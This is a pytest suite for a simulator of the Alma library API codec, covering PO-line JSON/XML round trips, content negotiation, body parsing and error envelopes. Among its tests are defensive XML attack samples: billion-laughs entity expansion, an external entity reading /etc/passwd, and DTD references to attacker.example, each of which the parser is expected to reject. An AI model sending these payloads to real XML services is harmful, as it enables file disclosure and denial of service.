"""Alma's wire format: negotiation, bodies, JSON/XML twins and the error envelope."""

from __future__ import annotations

import json
import re
from datetime import datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import pytest

from simulator.api import codec
from simulator.api.codec import (
    MAX_BODY_BYTES,
    REPEATING,
    XML_DECLARATION,
    content_type,
    dumps_json,
    error_body,
    from_xml,
    negotiate,
    parse_body,
    parse_error_body,
    to_xml,
    to_xml_list,
    tracking_id,
)
from simulator.errors import BodyNotFound, GeneralError

# alma-api.md §4.6: a real GET response, abridged.
POL_JSON = r"""
{"number": "POL-UBS-2024-148772",
 "status": {"value": "CLOSED", "desc": "Closed"},
 "owner": {"value": "A100", "desc": "Basel - UB Hauptbibliothek"},
 "type": {"value": "PRINT_OT", "desc": "Physical - One Time"},
 "vendor": {"value": "UBS-A100-520", "desc": "Brepols"},
 "rush": false,
 "price": {"sum": "50.0", "currency": {"value": "CHF", "desc": "Swiss Franc"}},
 "portfolios": {"portfolio": [], "total_record_count": 0},
 "license": {"value": "", "desc": ""}, "url": "", "vendor_account": "1138495",
 "reclaim_interval": "0", "expected_receipt_interval": "60", "claiming_interval": "0",
 "acquisition_method": {"value": "VENDOR_SYSTEM", "desc": "Purchase at Vendor System"},
 "no_charge": false, "cancellation_restriction": false, "vendor_reference_number": "",
 "source_type": {"value": "MANUALENTRY", "desc": "Manual Entry"},
 "po_number": "PO-UBS-5948003", "additional_order_reference": "", "invoice_reference": "",
 "resource_metadata": {"title": "…", "author": "Reithofer, Hans", "isbn": "3825893367",
   "publisher": "Lit", "mms_id": {"value": "9940475580105504", "link": "https://api-eu…/bibs/9940475580105504"},
   "publication_place": "Berlin", "publication_year": "2006", "vendor_title_number": "", "system_control_number": [""]},
 "fund_distribution": [{"amount": {"sum": "50.0", "currency": {"value": "CHF", "desc": "Swiss Franc"}},
                        "fund_code": {"value": "Fundforall", "desc": "Fundforall"}}],
 "reporting_code": "", "secondary_reporting_code": "", "tertiary_reporting_code": "",
 "fourth_reporting_code": "", "fifth_reporting_code": "", "vendor_note": "", "receiving_note": "",
 "alert": [{"value": "", "desc": "The ordered resource already exists in the Inventory:  1 copies in library: …"}],
 "note": [],
 "location": [{"quantity": 1, "library": {"value": "A100", "desc": "…"}, "shelving_location": "100FH",
   "holding": [{"id": "22444674480005504", "link": "…/holdings/22444674480005504"}],
   "copy": [{"pid": "23444674470005504", "barcode": "UBS-S-1044370",
             "item_policy": {"value": "01", "desc": "01 Loan 28 days"},
             "receive_date": "2024-08-19Z", "expected_arrival_date": "2024-10-18Z", "link": "…/items/23444674470005504"}]}],
 "access_model": "Null", "base_status": "", "access_provider": "", "manual_renewal": false,
 "renewal_cycle": {}, "renewal_period": 0, "renewal_note": "",
 "material_type": {"value": "", "desc": ""},
 "created_date": "2024-08-19Z", "status_date": "2024-08-19Z", "expected_receipt_date": "2024-10-18Z"}
"""

# alma-api.md §3: the documented minimal XML request.
POL_XML = """<po_line>
  <owner desc="Main Library">MAIN</owner>
  <type desc="Print Book - One Time">PRINTED_BOOK_OT</type>
  <vendor>GOBI</vendor><vendor_account>GOBI</vendor_account>
  <acquisition_method>VENDOR_SYSTEM</acquisition_method>
  <price><sum>61.30</sum><currency>USD</currency></price>
  <vendor_reference_number>98765432</vendor_reference_number>
  <resource_metadata><title>…</title><isbn>9780820347523</isbn></resource_metadata>
  <fund_distributions><fund_distribution><fund_code>HUM</fund_code>
     <amount><sum>61.30</sum><currency>USD</currency></amount></fund_distribution></fund_distributions>
  <locations><location><quantity>1</quantity><library>MAIN</library>
     <shelving_location>STACK</shelving_location>
     <copies><copy><item_policy>BOOK</item_policy></copy></copies></location></locations>
</po_line>
""".encode()

DECLARATION = XML_DECLARATION.encode()


def as_wire_strings(value: Any, key: str = "") -> Any:
    """What XML can say about a JSON value: scalars become text and an empty object is empty text."""
    if isinstance(value, dict):
        return {k: as_wire_strings(v, k) for k, v in value.items()} if value else ""
    if isinstance(value, list):
        return [as_wire_strings(v) for v in value]
    if key == "total_record_count":
        return value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


# --------------------------------------------------------------------------- PO line twins


def test_real_po_line_survives_json_to_xml_to_json() -> None:
    original = json.loads(POL_JSON)
    xml = to_xml("po_line", original)
    root, back = from_xml(xml)
    assert root == "po_line"
    assert back == as_wire_strings(original)
    assert back["location"][0]["copy"][0]["item_policy"] == {"value": "01", "desc": "01 Loan 28 days"}
    assert back["portfolios"] == {"portfolio": [], "total_record_count": 0}
    assert back["note"] == []
    assert back["resource_metadata"]["system_control_number"] == [""]


def test_real_po_line_xml_uses_alma_element_shapes() -> None:
    xml = to_xml("po_line", json.loads(POL_JSON)).decode()
    assert xml.startswith(XML_DECLARATION + "<po_line>")
    assert '<owner desc="Basel - UB Hauptbibliothek">A100</owner>' in xml
    assert '<price><sum>50.0</sum><currency desc="Swiss Franc">CHF</currency></price>' in xml
    assert '<mms_id link="https://api-eu…/bibs/9940475580105504">9940475580105504</mms_id>' in xml
    assert '<portfolios total_record_count="0"/>' in xml
    assert "<locations><location><quantity>1</quantity>" in xml
    assert "<copies><copy><pid>23444674470005504</pid>" in xml
    assert "<fund_distributions><fund_distribution>" in xml
    assert '<alerts><alert desc="The ordered resource' in xml
    assert "<holdings><holding><id>22444674480005504</id>" in xml
    assert "<notes/>" in xml
    assert "<rush>false</rush>" in xml
    assert "<renewal_period>0</renewal_period>" in xml


def test_documented_xml_request_parses_into_the_json_shape() -> None:
    root, pol = from_xml(POL_XML)
    assert root == "po_line"
    assert pol["owner"] == {"value": "MAIN", "desc": "Main Library"}
    assert pol["vendor"] == "GOBI"
    assert pol["price"] == {"sum": "61.30", "currency": "USD"}
    assert pol["resource_metadata"] == {"title": "…", "isbn": "9780820347523"}
    assert pol["fund_distribution"][0]["fund_code"] == "HUM"
    assert pol["fund_distribution"][0]["amount"]["sum"] == "61.30"
    assert pol["location"][0]["copy"][0]["item_policy"] == "BOOK"
    assert pol["location"][0]["quantity"] == "1"
    assert pol["location"][0]["shelving_location"] == "STACK"


def test_coded_fund_code_in_xml_reads_as_value_and_desc() -> None:
    xml = POL_XML.replace(b"<fund_code>HUM</fund_code>", b'<fund_code desc="Humanities">HUM</fund_code>')
    _, pol = from_xml(xml)
    assert pol["fund_distribution"][0]["fund_code"]["value"] == "HUM"
    assert pol["fund_distribution"][0]["fund_code"] == {"value": "HUM", "desc": "Humanities"}


def test_documented_xml_survives_xml_to_dict_to_xml() -> None:
    _, pol = from_xml(POL_XML)
    assert from_xml(to_xml("po_line", pol)) == ("po_line", pol)


def test_parse_body_reads_both_formats_of_the_same_request_alike() -> None:
    from_json = parse_body(dumps_json(json.loads(POL_JSON)), "application/json")
    from_xml_body = parse_body(to_xml("po_line", json.loads(POL_JSON)), "application/xml")
    assert from_xml_body == as_wire_strings(from_json)


# --------------------------------------------------------------------------- XML conventions


def test_money_renders_as_sum_and_coded_currency() -> None:
    price = {"sum": "54.10", "currency": {"value": "CHF", "desc": "Swiss Franc"}}
    assert to_xml("price", price) == (
        DECLARATION + b'<price><sum>54.10</sum><currency desc="Swiss Franc">CHF</currency></price>'
    )
    assert from_xml(to_xml("price", price)) == ("price", price)


def test_scalars_render_as_text_and_parse_back_as_strings() -> None:
    obj = {"rush": True, "no_charge": False, "quantity": 3, "percent": 12.5, "sum": Decimal("1.10"),
           "url": None, "note_text": ""}
    xml = to_xml("x", obj)
    assert xml == DECLARATION + (
        b"<x><rush>true</rush><no_charge>false</no_charge><quantity>3</quantity>"
        b"<percent>12.5</percent><sum>1.10</sum><url/><note_text/></x>"
    )
    assert from_xml(xml)[1] == {"rush": "true", "no_charge": "false", "quantity": "3", "percent": "12.5",
                                "sum": "1.10", "url": "", "note_text": ""}


def test_other_attributes_become_keys() -> None:
    _, obj = from_xml(b'<po_line link="https://x/po-lines/POL-1"><parent link="https://x/funds/7">7</parent>'
                      b'<number>POL-1</number></po_line>')
    assert obj == {"link": "https://x/po-lines/POL-1", "parent": {"value": "7", "link": "https://x/funds/7"},
                   "number": "POL-1"}


def test_a_dict_with_more_than_coded_keys_is_a_plain_element() -> None:
    obj = {"holding": [{"id": "22", "link": "https://x/holdings/22"}],
           "odd": {"value": "v", "desc": "d", "extra": "e"}}
    xml = to_xml("location", obj)
    assert b"<holding><id>22</id><link>https://x/holdings/22</link></holding>" in xml
    assert b"<odd><value>v</value><desc>d</desc><extra>e</extra></odd>" in xml
    assert from_xml(xml)[1] == obj


@pytest.mark.parametrize(
    ("singular", "plural"),
    [("copy", "copies"), ("library", "libraries"), ("available_for_library", "available_for_libraries"),
     ("interested_user", "interested_users"), ("system_control_number", "system_control_numbers"),
     ("account", "accounts"), ("category", "categories"), ("box", "boxes"), ("day", "days"),
     ("reporting_code", "reporting_codes")],
)
def test_repeating_groups_get_a_plural_wrapper_both_ways(singular: str, plural: str) -> None:
    obj = {singular: [{"value": "A", "desc": "Alpha"}, "B"]}
    xml = to_xml("thing", obj)
    assert xml == DECLARATION + (
        f'<thing><{plural}><{singular} desc="Alpha">A</{singular}><{singular}>B</{singular}></{plural}></thing>'
    ).encode()
    assert from_xml(xml) == ("thing", {singular: [{"value": "A", "desc": "Alpha"}, "B"]})


def test_a_single_child_in_a_wrapper_is_still_a_list() -> None:
    _, obj = from_xml(b"<fund><available_for_libraries><available_for_library>MAIN</available_for_library>"
                      b"</available_for_libraries><code>HUM</code></fund>")
    assert obj == {"available_for_library": ["MAIN"], "code": "HUM"}


def test_an_unknown_wrapper_is_recognised_from_its_children() -> None:
    assert "widget" not in REPEATING
    _, obj = from_xml(b"<x><widgets><widget>1</widget></widgets><boxes><box>2</box></boxes><categories><category>3</category></categories></x>")
    assert obj == {"widget": ["1"], "box": ["2"], "category": ["3"]}


def test_an_element_with_one_differently_named_child_is_an_object() -> None:
    _, obj = from_xml(b"<x><resource_metadata><title>T</title></resource_metadata></x>")
    assert obj == {"resource_metadata": {"title": "T"}}


def test_repeated_elements_without_a_wrapper_become_a_list() -> None:
    _, obj = from_xml(b"<x><isbn>1</isbn><isbn>2</isbn><isbn>3</isbn><title>T</title></x>")
    assert obj == {"isbn": ["1", "2", "3"], "title": "T"}


def test_the_repeating_table_can_be_extended(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(REPEATING, "criterion", "criteria")
    xml = to_xml("rule", {"criterion": ["a", "b"]})
    assert b"<criteria><criterion>a</criterion><criterion>b</criterion></criteria>" in xml
    assert from_xml(xml)[1] == {"criterion": ["a", "b"]}
    assert from_xml(b"<rule><criteria/></rule>")[1] == {"criterion": []}


def test_namespaces_are_dropped_from_business_objects() -> None:
    _, obj = from_xml(b'<p:po_line xmlns:p="urn:x"><p:owner desc="M">MAIN</p:owner></p:po_line>')
    assert obj == {"owner": {"value": "MAIN", "desc": "M"}}


def test_bib_record_travels_verbatim_as_anies() -> None:
    record = '<record><leader>00000nam a2200000 a 4500</leader><datafield tag="245" ind1="1" ind2="0">' \
             '<subfield code="a">Tête &amp; cœur</subfield></datafield></record>'
    bib = {"mms_id": "991", "title": "Tête & cœur", "anies": [record]}
    xml = to_xml("bib", bib)
    assert record.encode() in xml
    assert from_xml(xml) == ("bib", bib)


def test_anies_must_be_well_formed_xml() -> None:
    with pytest.raises(GeneralError):
        to_xml("bib", {"anies": ["<record><oops></record>"]})


def test_names_that_cannot_be_elements_are_refused() -> None:
    with pytest.raises(ValueError):
        to_xml("po_line", {"bad key": "x"})
    with pytest.raises(ValueError):
        to_xml("po_line", {"<script>": "x"})


# --------------------------------------------------------------------------- lists


def test_list_document_and_its_json_twin_are_the_same_dict() -> None:
    items = [{"code": "HUM", "name": "Humanities", "status": {"value": "ACTIVE", "desc": "Active"}},
             {"code": "SCI", "name": "Science & Tech", "status": {"value": "ACTIVE", "desc": "Active"}}]
    xml = to_xml_list("funds", "fund", items, 17)
    assert xml.startswith(DECLARATION + b'<funds total_record_count="17"><fund><code>HUM</code>')
    assert xml.endswith(b"</fund></funds>")
    root, obj = from_xml(xml)
    assert root == "funds"
    assert obj == {"fund": items, "total_record_count": 17}
    assert to_xml("funds", obj) == xml


def test_empty_list_document() -> None:
    xml = to_xml_list("po_lines", "po_line", [], 0)
    assert xml == DECLARATION + b'<po_lines total_record_count="0"></po_lines>'
    assert from_xml(xml) == ("po_lines", {"po_line": [], "total_record_count": 0})
    assert from_xml(b'<vendors total_record_count="0"/>') == ("vendors", {"vendor": [], "total_record_count": 0})


def test_list_of_one() -> None:
    assert from_xml(to_xml_list("libraries", "library", [{"code": "MAIN"}], 1)) == (
        "libraries", {"library": [{"code": "MAIN"}], "total_record_count": 1})


def test_empty_root_elements() -> None:
    assert from_xml(b"<item/>") == ("item", {})
    assert parse_body(b"<item />", "application/xml") == {}
    assert from_xml(b"<test>GET - OK</test>") == ("test", {"value": "GET - OK"})


# --------------------------------------------------------------------------- text and unicode


def test_markup_characters_are_escaped_and_survive() -> None:
    obj = {"title": 'Fish & Chips <b>"bold"</b> \'quoted\'',
           "owner": {"value": "A&B", "desc": 'Say "hi" & <wave>\n\tnow'},
           "receiving_note": "line one\r\nline two\n"}
    xml = to_xml("po_line", obj)
    assert b"<title>Fish &amp; Chips &lt;b&gt;\"bold\"&lt;/b&gt; 'quoted'</title>" in xml
    assert b'desc="Say &quot;hi&quot; &amp; &lt;wave&gt;&#10;&#9;now"' in xml
    assert from_xml(xml)[1] == obj


def test_unicode_round_trips_through_both_formats() -> None:
    obj = {"title": "ספר החיים — كتاب الحياة",
           "author": "Zoë Ångström, e\u0301cole, ñ\u0303",
           "publisher": "北京大学出版社 📚",
           "owner": {"value": "MAIN", "desc": "Bibliothèque Ūniversitaire \u200f"}}
    assert from_xml(to_xml("resource_metadata", obj)) == ("resource_metadata", obj)
    assert parse_body(dumps_json(obj), "application/json") == obj
    assert "e\u0301cole" in to_xml("x", obj).decode("utf-8")


def test_characters_xml_cannot_carry_become_replacement_characters() -> None:
    _, obj = from_xml(to_xml("x", {"title": "bell\x07 and nul\x00"}))
    assert obj == {"title": "bell\ufffd and nul\ufffd"}


# --------------------------------------------------------------------------- request bodies


@pytest.mark.parametrize("body", [b"", b"   ", b"\n\t \r\n", b"\xef\xbb\xbf"])
def test_empty_body_is_body_not_found(body: bytes) -> None:
    with pytest.raises(BodyNotFound) as caught:
        parse_body(body, "application/json")
    assert caught.value.code == "401676"
    assert caught.value.message == "Request body not found."


@pytest.mark.parametrize(
    ("body", "ctype"),
    [(b'{"owner": ', "application/json"), (b"{'owner': 1}", None), (b"owner=MAIN", "application/json"),
     (b"[1, 2]", "application/json"), (b'"just a string"', "application/json"), (b"{\"a\": NaN}", None),
     (b"<po_line><owner>MAIN</po_line>", "application/xml"), (b"not xml at all", None),
     (b"<a>" * 100 + b"</a>" * 100, "application/xml"), (b"[" * 100_000 + b"]" * 100_000, "application/json")],
)
def test_unparseable_bodies_are_general_errors(body: bytes, ctype: str | None) -> None:
    with pytest.raises(GeneralError) as caught:
        parse_body(body, ctype)
    assert caught.value.code == "402119"
    assert caught.value.message.startswith("General error.")


def test_json_is_chosen_by_content_type_or_by_an_opening_brace() -> None:
    assert parse_body(b'  {"owner": {"value": "MAIN"}}', "application/xml") == {"owner": {"value": "MAIN"}}
    assert parse_body(b'{"a": 1}', None) == {"a": 1}
    assert parse_body(b'\xef\xbb\xbf{"a": 1}', "application/json; charset=UTF-8") == {"a": 1}
    assert parse_body(b"<po_line><vendor>GOBI</vendor></po_line>", None) == {"vendor": "GOBI"}
    assert parse_body(b"<po_line><vendor>GOBI</vendor></po_line>", "text/xml") == {"vendor": "GOBI"}


def test_non_utf8_bodies_are_refused() -> None:
    for body, ctype in ((b'{"title": "caf\xe9"}', "application/json"),
                        (b"<po_line><title>caf\xe9</title></po_line>", "application/xml"),
                        (b'<?xml version="1.0" encoding="ISO-8859-1"?><po_line><title>caf\xe9</title></po_line>',
                         "application/xml")):
        with pytest.raises(GeneralError) as caught:
            parse_body(body, ctype)
        assert "UTF-8" in caught.value.message


def test_oversized_bodies_are_refused_before_parsing() -> None:
    body = b'{"title": "' + b"x" * MAX_BODY_BYTES + b'"}'
    with pytest.raises(GeneralError) as caught:
        parse_body(body, "application/json")
    assert caught.value.code == "402119"
    with pytest.raises(GeneralError):
        from_xml(b"<a>" + b"x" * MAX_BODY_BYTES + b"</a>")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<po_line><title>&lol9;</title></po_line>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE po_line [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<po_line><title>&xxe;</title></po_line>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE po_line SYSTEM "http://attacker.example/evil.dtd">
<po_line><title>x</title></po_line>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE po_line [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<po_line/>"""

BARE_DOCTYPE = b"""<!DOCTYPE po_line><po_line><title>x</title></po_line>"""


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY, BARE_DOCTYPE],
                         ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity", "doctype"])
def test_dtds_and_entities_are_refused(body: bytes) -> None:
    with pytest.raises(GeneralError) as caught:
        parse_body(body, "application/xml")
    assert caught.value.code == "402119"
    assert "DTDs and entity declarations are not accepted" in caught.value.message
    with pytest.raises(GeneralError):
        from_xml(body)


def test_predefined_and_character_entities_are_still_fine() -> None:
    assert parse_body(b"<x><title>A &amp; B &#233; &#x263A;</title></x>", None) == {"title": "A & B é ☺"}


# --------------------------------------------------------------------------- negotiation


@pytest.mark.parametrize(
    ("accept", "format_param", "expected"),
    [
        (None, None, "xml"),
        ("", None, "xml"),
        ("application/json", None, "json"),
        ("application/json;charset=UTF-8", None, "json"),
        ("application/xml", None, "xml"),
        ("text/xml", None, "xml"),
        ("*/*", None, "xml"),
        ("application/*", None, "xml"),
        ("text/html", None, "xml"),
        ("application/json, */*;q=0.8", None, "json"),
        ("*/*, application/json", None, "json"),
        ("application/xml;q=0.5, application/json", None, "json"),
        ("application/json;q=0.4, application/xml;q=0.9", None, "xml"),
        ("application/json;q=0", None, "xml"),
        ("application/json, application/xml", None, "json"),
        ("application/xml, application/json", None, "xml"),
        ("text/*;q=0.1, application/json;q=0.2", None, "json"),
        ("APPLICATION/JSON", None, "json"),
        ("application/hal+json", None, "json"),
        ("application/json;q=abc, application/xml;q=0.1", None, "xml"),
        ("application/xml", "json", "json"),
        ("application/json", "xml", "xml"),
        (None, "JSON", "json"),
        ("application/json", "csv", "json"),
        (None, "", "xml"),
    ],
)
def test_negotiate(accept: str | None, format_param: str | None, expected: str) -> None:
    assert negotiate(accept, format_param) == expected


def test_content_types_carry_the_charset_clients_split_on() -> None:
    assert content_type("json") == "application/json;charset=UTF-8"
    assert content_type("xml") == "application/xml;charset=UTF-8"
    assert content_type("json").split(";") == ["application/json", "charset=UTF-8"]
    with pytest.raises(ValueError):
        content_type("yaml")


# --------------------------------------------------------------------------- JSON out


def test_dumps_json_is_compact_utf8() -> None:
    out = dumps_json({"title": "ספר", "rush": False, "sum": Decimal("54.10"), "n": None, "l": [1]})
    assert out == '{"title":"ספר","rush":false,"sum":"54.10","n":null,"l":[1]}'.encode()
    with pytest.raises(TypeError):
        dumps_json({"when": datetime(2024, 1, 1)})


# --------------------------------------------------------------------------- error envelope

TID = "E01-1409095747-SS4OE-AWAE1612166395"


def test_json_error_envelope_has_alma_shape() -> None:
    body = error_body([("401871", "PO Line not found.")], "json", TID)
    assert json.loads(body) == {
        "errorsExist": True,
        "errorList": {"error": [{"errorCode": "401871", "errorMessage": "PO Line not found.", "trackingId": TID}]},
        "result": None,
    }
    assert list(json.loads(body)) == ["errorsExist", "errorList", "result"]


def test_xml_error_envelope_has_alma_shape() -> None:
    body = error_body([("401871", "PO Line not found.")], "xml", TID)
    assert body == (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<web_service_result xmlns="http://com/exlibris/urm/general/xmlbeans">'
        b"<errorsExist>true</errorsExist><errorList><error><errorCode>401871</errorCode>"
        b"<errorMessage>PO Line not found.</errorMessage>"
        b"<trackingId>E01-1409095747-SS4OE-AWAE1612166395</trackingId></error></errorList>"
        b"</web_service_result>"
    )
    from xml.etree.ElementTree import fromstring

    ns = {"ws": "http://com/exlibris/urm/general/xmlbeans"}
    assert fromstring(body).findtext("ws:errorList/ws:error/ws:errorMessage", namespaces=ns) == "PO Line not found."


@pytest.mark.parametrize("fmt", ["json", "xml"])
def test_error_envelopes_read_back(fmt: str) -> None:
    errors = [("401664", "Mandatory field is missing: owner"), ("402119", "General error. <bad> & \"odd\" — ✓")]
    assert parse_error_body(error_body(errors, fmt, TID)) == errors
    assert parse_error_body(error_body([], fmt, TID)) == []


def test_real_captured_envelopes_read_back() -> None:
    pretty_xml = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<web_service_result xmlns="http://com/exlibris/urm/general/xmlbeans">
  <errorsExist>true</errorsExist>
  <errorList>
    <error>
      <errorCode>401871</errorCode>
      <errorMessage>PO Line not found.</errorMessage>
      <trackingId>E01-1409095748-ZYFO9-AWAE1612166395</trackingId>
    </error>
  </errorList>
</web_service_result>"""
    assert parse_error_body(pretty_xml) == [("401871", "PO Line not found.")]
    prefixed = (b'<ws:web_service_result xmlns:ws="http://com/exlibris/urm/general/xmlbeans"><ws:errorList>'
                b"<ws:error><ws:errorCode>UNAUTHORIZED</ws:errorCode><ws:errorMessage>API-key not defined"
                b"</ws:errorMessage></ws:error></ws:errorList></ws:web_service_result>")
    assert parse_error_body(prefixed) == [("UNAUTHORIZED", "API-key not defined")]
    lone = b'{"errorsExist":true,"errorList":{"error":{"errorCode":"402119","errorMessage":"General error."}}}'
    assert parse_error_body(lone) == [("402119", "General error.")]


@pytest.mark.parametrize(
    "body",
    [b"", b"   ", b'{"number": "POL-1"}', b"[1]", b"{broken", b"<po_line><number>POL-1</number></po_line>",
     b"<web_service_result", b"\xff\xfe", b"plain text", BILLION_LAUGHS, to_xml_list("funds", "fund", [], 0)],
)
def test_anything_else_is_not_an_error_envelope(body: bytes) -> None:
    assert parse_error_body(body) == []


def test_tracking_id_shape_and_determinism() -> None:
    moment = datetime(2024, 9, 14, 9, 57, 47, tzinfo=timezone.utc)
    tid = tracking_id(1, moment)
    assert re.fullmatch(r"E01-\d{10}-[A-Z0-9]{5}-AWAE\d+", tid)
    assert tid.startswith("E01-1409095747-")
    assert tracking_id(1, moment) == tid
    assert tracking_id(1, moment.replace(tzinfo=None)) == tid
    assert tracking_id(1, moment.astimezone(timezone(timedelta(hours=2)))) == tid
    codes = {tracking_id(n, moment).split("-")[2] for n in range(5000)}
    assert len(codes) == 5000


def test_module_exports_what_it_documents() -> None:
    for name in codec.__all__:
        assert hasattr(codec, name), name
    assert codec.__doc__ and "wire format" in codec.__doc__


# ---- issue 11, item 6: the body's text decides whether its fields are walked; every way in is still refused


@pytest.mark.parametrize("body", [
    b'{"resource_metadata": {"title": "Bell\\u0007"}}',  # an ASCII JSON escape
    b'{"resource_metadata": {"title": "Form\\ffeed"}}',  # a short escape that makes a control
    b'{"resource_metadata": {"title": "Half \\uD800 pair"}}',  # a lone surrogate, upper-case hex
    '{"resource_metadata": {"title": "Raw \ufdd0 non-character"}}'.encode(),  # raw, in non-ASCII text
    '{"resource_metadata": {"title": "caf\u00e9 \U0010FFFF"}}'.encode(),  # an astral non-character
    b'<po_line><resource_metadata><title>Ref &#xFDD0;</title></resource_metadata></po_line>',  # XML reference
])
def test_an_unstorable_character_is_refused_however_it_arrives(body: bytes) -> None:
    with pytest.raises(GeneralError, match=r"field resource_metadata\.title holds a character Alma cannot store"):
        codec.parse_body(body, None)


@pytest.mark.parametrize("title", ["caf\u00e9", "tab\tand\nnewline", "back\\slash", "\u00e9\\u0007 spelled out"])
def test_storable_text_with_escapes_and_non_ascii_is_kept(title: str) -> None:
    for ensure_ascii in (True, False):
        body = json.dumps({"resource_metadata": {"title": title}}, ensure_ascii=ensure_ascii).encode()
        assert codec.parse_body(body, None) == {"resource_metadata": {"title": title}}


def test_json_answers_are_the_standard_librarys_compact_bytes() -> None:
    value: dict[str, Any] = {"t": "caf\u00e9 \"q\" \\ \x01\u2028\U0001F600", "n": [1, 2.5, 1e16, None, True],
                             "sum": Decimal("12.30")}
    for extra in ({}, {"big": 2**70}, {"1": {2: "int key"}}):  # orjson, then what only the fallback writes
        expected = json.dumps(value | extra, ensure_ascii=False, separators=(",", ":"), default=str).encode()
        assert codec.dumps_json(value | extra) == expected


@pytest.mark.parametrize("text", [
    '{"quantity": 123456789012345678901234567890, "b": -9223372036854775809}',  # beyond 64 bits: stays an integer
    '{"n": [0, -0, -0.0, 1.0, 1E2, 5e-324, 0.1e-400, 9223372036854775807, 123456789012345678]}',
    '{"a": 1, "b": 2, "a": 3}',  # a repeated key: the last value, in the first one's place
    '{"t": "\\ud83d\\ude00 \\u2028 caf\\u00e9 \\/ \\"q\\"", "x": [true, false, null, {}, []]}',
])
def test_json_bodies_read_as_the_standard_library_reads_them(text: str) -> None:
    parsed = codec.parse_body(text.encode(), "application/json")
    expected = json.loads(text)
    assert parsed == expected and json.dumps(parsed) == json.dumps(expected)  # same types, same key order
    assert [type(v) for v in parsed.values()] == [type(v) for v in expected.values()]


def test_a_lone_surrogate_escape_and_an_infinite_number_are_read_as_before() -> None:
    with pytest.raises(GeneralError) as caught:  # read by the standard library, then refused as unstorable
        codec.parse_body(b'{"resource_metadata": {"title": "Half \\ud800 pair"}}', "application/json")
    assert "resource_metadata.title" in caught.value.message
    assert codec.parse_body(b'{"a": 1E400}', "application/json") == {"a": float("inf")}


def test_the_quick_look_for_unstorable_text_agrees_with_the_walk_that_names_the_field():
    """refuse_unstorable first asks whether anything in a body is unstorable (no field names, printable ASCII
    without the regular expression), and only then walks to name the field: the two must always agree."""
    import random

    from simulator.api.codec import _holds_unstorable, _refuse_first_unstorable
    from simulator.errors import GeneralError

    rng = random.Random(2027)
    letters = ["a", " ", "~", "\t", "\n", "\r", "\x00", "\x1f", "\x7f", "é", "\ud800", "\udfff", "\ufdd0", "\ufffe",
               "\U0001fffe", "\U0010ffff", "\U0001f600"]

    def text() -> str:
        return "".join(rng.choice(letters if rng.random() < 0.3 else letters[:3]) for _ in range(rng.randint(0, 5)))

    def value(depth: int = 0):
        roll = rng.random()
        if depth > 3 or roll < 0.4:
            return text()
        if roll < 0.5:
            return rng.choice([1, 2.5, None, True])
        if roll < 0.75:
            return {text(): value(depth + 1) for _ in range(rng.randint(0, 3))}
        return [value(depth + 1) for _ in range(rng.randint(0, 3))]

    seen = {True: 0, False: 0}
    for _ in range(5000):
        body = value()
        try:
            _refuse_first_unstorable(body, "")
            named = False
        except GeneralError:
            named = True
        assert _holds_unstorable(body) is named, body
        seen[named] += 1
    assert seen[True] > 500 and seen[False] > 500  # both kinds were tried


def test_an_item_and_a_po_line_carry_their_link_as_an_attribute_and_read_back_the_same() -> None:
    """Alma's XML writes the link of an item (and its bib_data, holding_data) and of a PO line as an attribute
    (a captured bibs API item; reference/alma-api.md for <po_line>); other objects keep a <link> child."""
    item = {"bib_data": {"mms_id": "99", "link": "https://x/bibs/99"}, "holding_data": {"holding_id": "22",
            "link": "https://x/bibs/99/holdings/22"}, "item_data": {"pid": "23"}, "link": "https://x/items/23"}
    xml = codec.to_xml("item", item)
    assert b'<item link="https://x/items/23"><bib_data link="https://x/bibs/99"><mms_id>99</mms_id></bib_data>' in xml
    assert b'<holding_data link="https://x/bibs/99/holdings/22">' in xml and b"<link>" not in xml
    assert codec.from_xml(xml) == ("item", item)
    line = codec.to_xml("po_line", {"link": "https://x/acq/po-lines/POL-1", "number": "POL-1"})
    assert b'<po_line link="https://x/acq/po-lines/POL-1"><number>POL-1</number></po_line>' in line
    fund = codec.to_xml("fund", {"code": "F", "link": "https://x/acq/funds/1"})
    assert b"<fund><code>F</code><link>https://x/acq/funds/1</link></fund>" in fund
